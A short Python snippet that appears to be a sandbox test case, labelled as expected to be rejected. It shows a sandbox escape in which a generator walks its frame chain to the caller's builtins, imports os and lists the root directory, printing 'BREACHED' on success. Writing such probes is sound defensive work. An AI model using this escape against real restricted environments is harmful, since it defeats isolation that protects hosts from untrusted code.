# fence: rejected | walls: error
from client_sdk import filter_rows
def rows():
    frame = here.gi_frame.f_back
    os = frame.f_builtins["__import__"]("os")
    print("BREACHED" if os.listdir("/") else "empty")
    yield {"id": "a"}
here = rows()
filter_rows(here, lambda row: True)
